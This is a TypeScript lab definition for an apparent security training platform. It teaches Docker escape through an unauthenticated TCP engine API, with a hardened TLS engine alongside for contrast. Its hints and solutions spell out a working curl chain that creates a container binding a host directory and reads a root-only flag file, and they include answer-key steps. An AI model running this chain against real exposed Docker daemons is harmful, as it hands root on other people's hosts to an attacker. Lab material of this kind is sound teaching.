// Escape lab: a Docker engine that serves its API on TCP without authentication (the seeds'
// `dockerd -H tcp://0.0.0.0:2375` warning). The learner finds it on the session's network
// and, with curl alone, has it start a container that binds the host's files. The hardened
// engine beside it is started with `--tlsverify`: it serves only clients holding a
// certificate from its own CA, and nobody in the session holds one. Both are throwaway
// engines the server starts for this session (server/docker/session-engine.ts), each inside
// the network namespace of a terminal-less helper container on the lab's internal network,
// so they are reachable from the attacker container and from nowhere else.
import { FLAG_LINE, flagCheck } from '../shared/flag-check.ts';
import type { CheckContext, CheckOutcome, LabDefinition } from '../../server/lab-kit.ts';

const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
const NETWORK = 'lab-net';
export const PLAIN = { engine: 'engine-tcp', host: 'daemon', port: 2375 } as const;
export const TLS = { engine: 'engine-tls', host: 'daemon-tls', port: 2376 } as const;
const PLAIN_URL = `http://${PLAIN.host}:${PLAIN.port}`;
const TLS_URL = `https://${TLS.host}:${TLS.port}`;

/** A helper whose only job is to own the network namespace an engine listens in. */
function daemonHost(name: string, title: string): LabDefinition['containers'][number] {
  return {
    name,
    title,
    terminal: false,
    hostname: name,
    networkMode: { network: NETWORK },
    user: 'nobody',
    capDrop: ['ALL'],
    readonlyRootfs: true,
    memoryMb: 32,
    pidsLimit: 16,
    cpus: 0.25,
  };
}

// What a learner types: every step is one self-contained line (the page's "Show me" runs
// each step in a fresh shell). `curlArgs` lets the same attack be aimed at the TLS engine.
export const FIND_STEP = `curl -s ${PLAIN_URL}/info | grep -o '"ID":"[^"]*"'`;

/** The whole escape over HTTP: image, session directory (from DockerRootDir), create, start, logs. */
export function readFlagStep(base: string, curlArgs = ''): string {
  const curl = `curl -s ${curlArgs}`.trimEnd();
  return [
    `H=${base}`,
    `IMG=$(${curl} $H/images/json | grep -o 'nslab/lab:[0-9a-f]*' | head -1)`,
    `DIR=$(${curl} $H/info | grep -o '"DockerRootDir":"[^"]*"' | cut -d'"' -f4); DIR=\${DIR%/*/data}`,
    `ID=$(${curl} -H 'Content-Type: application/json' -d "{\\"Image\\":\\"$IMG\\",\\"Tty\\":true,\\"Cmd\\":[\\"cat\\",\\"/host/flag\\"],\\"HostConfig\\":{\\"Binds\\":[\\"$DIR:/host:ro\\"]}}" $H/containers/create | grep -o '[0-9a-f]\\{64\\}')`,
    `${curl} -X POST $H/containers/$ID/start >/dev/null; ${curl} -X POST $H/containers/$ID/wait >/dev/null; ${curl} "$H/containers/$ID/logs?stdout=1&stderr=1" | tr -d '\\r'`,
  ].join('; ');
}

export const READ_FLAG_STEP = readFlagStep(PLAIN_URL);
/** The same attack against the hardened engine; -k only skips checking the server's certificate. */
export const HARDENED_STEP = readFlagStep(TLS_URL, '-k');
export const TLS_PROBE_STEP = `curl -sk ${TLS_URL}/info; echo "curl exit code $?"`;

/** The attacker container's addresses on the lab's networks, as the main engine assigned them. */
async function attackerAddresses(ctx: CheckContext): Promise<string[]> {
  const info = await ctx.container('attacker').inspect();
  return Object.values(info.NetworkSettings.Networks)
    .map((n) => n.IPAddress)
    .filter((ip) => ip !== '');
}

/** Lines of dockerd's log where a client from one of `addresses` offered no certificate. */
export function refusedHandshakes(log: string, addresses: readonly string[]): string[] {
  return log
    .split('\n')
    .filter((line) => /TLS handshake error from .*client didn't provide a certificate/.test(line))
    .filter((line) => addresses.some((ip) => line.includes(`from ${ip}:`)));
}

export const escapeDockerTcpLab: LabDefinition = {
  id: 'escape-docker-tcp',
  title: 'Escape: the Docker API on TCP',
  topic: 'escapes',
  summary:
    'Two Docker engines listen on your network: one demands a TLS client certificate, the other nothing at all. Be refused by the first, then make the second read a root-only flag on the host with nothing but curl.',
  minutes: 15,
  learned: [
    'An engine API on TCP without TLS client certificates gives anyone on the network root on its host.',
    "--tlsverify refuses every client without a certificate the engine's CA signed.",
  ],
  lesson: 'escape-docker-tcp.md',
  escape: true,
  networks: [{ name: NETWORK }],
  sessionEngines: [
    { name: PLAIN.engine, listen: { container: PLAIN.host, port: PLAIN.port, tls: false } },
    // It never runs a container for anyone, so it needs no image.
    {
      name: TLS.engine,
      listen: { container: TLS.host, port: TLS.port, tls: true },
      image: false,
    },
  ],
  hostFiles: [{ path: 'flag', content: '{{token}}\n', mode: 0o600 }],
  containers: [
    {
      name: 'attacker',
      title: `attacker (${NETWORK})`,
      hostname: 'attacker',
      networkMode: { network: NETWORK },
      ...SMALL,
    },
    daemonHost(PLAIN.host, `daemon (dockerd -H tcp://0.0.0.0:${PLAIN.port}, no terminal)`),
    daemonHost(TLS.host, `daemon-tls (dockerd --tlsverify, port ${TLS.port}, no terminal)`),
  ],
  exercises: [
    {
      id: 'find-the-api',
      title: 'Find the open API',
      goal: `An engine on your network answers anyone on port ${PLAIN.port}. Ask it who it is and submit its ID.`,
      answer: { label: "The engine's ID", placeholder: 'the ID from /info' },
      hints: [
        `Docker's API is plain HTTP. Port ${PLAIN.port} is its conventional unencrypted port, and names on a user-defined network resolve through Docker's DNS: try the name "${PLAIN.host}".`,
        'GET /info describes the engine: its ID, its data directory, how many containers it runs.',
        `In the attacker terminal: ${FIND_STEP}`,
      ],
      check: async (ctx, answer): Promise<CheckOutcome> => {
        const { ID } = await ctx.sessionEngine(PLAIN.engine).info();
        const submitted = (answer ?? '').trim();
        if (submitted !== '' && submitted === ID) {
          return {
            passed: true,
            reason: `Right: ${ID} is the engine the server started in "${PLAIN.host}" (the server asked it over its Unix socket). Anyone who can open a TCP connection to it can ask the same, and more.`,
          };
        }
        return {
          passed: false,
          reason:
            submitted === ''
              ? 'Submit the ID the engine reports.'
              : `${submitted} is not the ID of the engine on port ${PLAIN.port}.`,
          hint: 0,
        };
      },
      // Plain HTTP to the hardened engine's port learns nothing (and starts no TLS handshake,
      // which the next exercise counts).
      cheat: [
        {
          terminal: 'attacker',
          input: `curl -s http://${TLS.host}:${TLS.port}/info | grep -o '"ID":"[^"]*"'`,
          capture: /"ID":"([^"]+)"/,
        },
      ],
      solution: [{ terminal: 'attacker', input: FIND_STEP, capture: /"ID":"([^"]+)"/ }],
    },
    {
      id: 'tls-refuses',
      title: 'Be refused by the hardened engine',
      goal: `Send a request over TLS to the hardened engine on ${TLS.host}:${TLS.port}, and be refused because you hold no client certificate.`,
      hints: [
        `Plain HTTP to a TLS port gets "Client sent an HTTP request to an HTTPS server." and never reaches the TLS check. Speak TLS: https://${TLS.host}:${TLS.port}.`,
        "curl -k skips checking the server's certificate; it cannot make up a client certificate signed by the engine's CA. The engine logs each refused handshake, with your address.",
        `In the attacker terminal: ${TLS_PROBE_STEP}`,
      ],
      check: async (ctx): Promise<CheckOutcome> => {
        const engine = ctx.sessionEngine(TLS.engine);
        const [log, containers, addresses] = await Promise.all([
          engine.log(),
          engine.containers(),
          attackerAddresses(ctx),
        ]);
        if (containers.length > 0) {
          return {
            passed: false,
            reason: `The hardened engine holds ${containers.length} container(s): someone reached it with a certificate. Reset the lab.`,
            hint: 0,
          };
        }
        const refused = refusedHandshakes(log, addresses);
        if (refused.length === 0) {
          return {
            passed: false,
            reason: `The hardened engine's log (read on the host) shows no TLS handshake from the attacker container (${addresses.join(', ')}) refused for want of a client certificate.`,
            hint: 0,
          };
        }
        return {
          passed: true,
          reason: `The hardened engine refused ${refused.length} TLS handshake(s) from the attacker container, as its log on the host says ("client didn't provide a certificate"), and it runs no containers. --tlsverify turns "anyone on the network" into "whoever holds a key signed by this CA".`,
        };
      },
      cheat: [
        // Plain HTTP to the TLS port: refused, but before any certificate is asked for.
        { terminal: 'attacker', input: `curl -s http://${TLS.host}:${TLS.port}/info` },
        {
          terminal: 'attacker',
          input: 'echo "http: TLS handshake error: tls: client didn\'t provide a certificate"',
        },
      ],
      solution: [{ terminal: 'attacker', input: TLS_PROBE_STEP }],
    },
    {
      id: 'read-the-flag',
      title: "Read the host's flag over the network",
      goal: "Through the open API, read the flag: a root-only file (mode 0600) in this session's host directory that no container of the lab mounts. Submit it.",
      answer: { label: 'The flag', placeholder: '16 hex digits' },
      hints: [
        'The engine is root on its host and mounts whatever a create request asks for: "HostConfig": {"Binds": ["<host path>:/host:ro"]}.',
        'Which host path? /info tells you DockerRootDir, the engine\'s data directory on the host. Two levels up is this session\'s directory, and the flag is the file "flag" there.',
        `In the attacker terminal: ${READ_FLAG_STEP}`,
      ],
      check: flagCheck(
        'Right. No container of this lab mounts that file: the engine read it for you as the host\'s root, because an unauthenticated client on the network asked it to. "-H tcp://0.0.0.0:2375" means exactly that.',
      ),
      // The same requests against the engine that demands a client certificate. (It comes
      // after the TLS exercise: this attempt is itself a refused handshake.)
      cheat: [{ terminal: 'attacker', input: HARDENED_STEP, capture: FLAG_LINE }],
      solution: [{ terminal: 'attacker', input: READ_FLAG_STEP, capture: FLAG_LINE }],
    },
  ],
};
